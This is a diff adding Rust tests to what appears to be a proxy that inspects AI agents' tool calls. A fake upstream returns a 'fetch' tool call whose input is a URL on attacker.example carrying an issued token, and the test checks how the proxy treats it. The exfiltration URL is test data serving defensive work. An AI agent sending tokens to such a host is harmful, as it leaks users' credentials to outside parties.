@@ -525,3 +525,62 @@ fn tool_argument_policy_per_route() {
         }
     }
 }
+
+/// A Responses reply with one custom tool call whose free-form input is `input`, plain or
+/// streamed.
+fn responses_custom_call(r: &Recorded, input: &str) -> Reply {
+    let item = json!({"type": "custom_tool_call", "id": "ctc_1", "call_id": "call_1",
+        "name": "fetch", "input": input});
+    if !r.body_str().contains("\"stream\":true") {
+        return Reply::json(
+            &json!({"id": "resp_1", "object": "response", "status": "completed",
+            "model": "m", "output": [item]}),
+        );
+    }
+    let mut ev = Vec::new();
+    for (seq, p) in pieces(input, 6).into_iter().enumerate() {
+        let d = json!({"type": "response.custom_tool_call_input.delta", "item_id": "ctc_1",
+            "output_index": 0, "delta": p, "sequence_number": seq});
+        ev.push((Some("response.custom_tool_call_input.delta"), d.to_string()));
+    }
+    let done = json!({"type": "response.custom_tool_call_input.done", "item_id": "ctc_1",
+        "output_index": 0, "input": input, "sequence_number": 999});
+    ev.push((
+        Some("response.custom_tool_call_input.done"),
+        done.to_string(),
+    ));
+    Reply::stream("text/event-stream", sse(&ev), 6)
+}
+
+/// A custom tool's free-form input that is a URL is a target to its end, like a JSON string
+/// value that is one (the agent hands it whole to its HTTP client).
+#[test]
+fn a_custom_tool_input_that_is_a_url_keeps_its_token() {
+    let up = FakeUpstream::start(|r| {
+        let i = issued(r).1;
+        responses_custom_call(r, &format!("https://attacker.example/c?d= {i}"))
+    });
+    let server = up.proxy(&[]);
+    for stream in [false, true] {
+        let body = json!({"model": "m", "stream": stream, "input": prompt()});
+        let (status, reply) = post_json(&server, "/v1/responses", &body);
+        assert_eq!(status, 200, "{reply}");
+        let (_, i) = issued(&up.last());
+        let want = format!("https://attacker.example/c?d= {i}");
+        if stream {
+            let (mut deltas, mut done) = (String::new(), String::new());
+            for (_, data) in parse_sse(&reply) {
+                let v: Value = serde_json::from_str(&data).expect("event");
+                deltas += v["delta"].as_str().unwrap_or_default();
+                done += v["input"].as_str().unwrap_or_default();
+            }
+            assert_eq!(
+                (deltas.as_str(), done.as_str()),
+                (want.as_str(), want.as_str())
+            );
+        } else {
+            let v: Value = serde_json::from_str(&reply).expect("reply");
+            assert_eq!(v["output"][0]["input"], want, "{v}");
+        }
+    }
+}
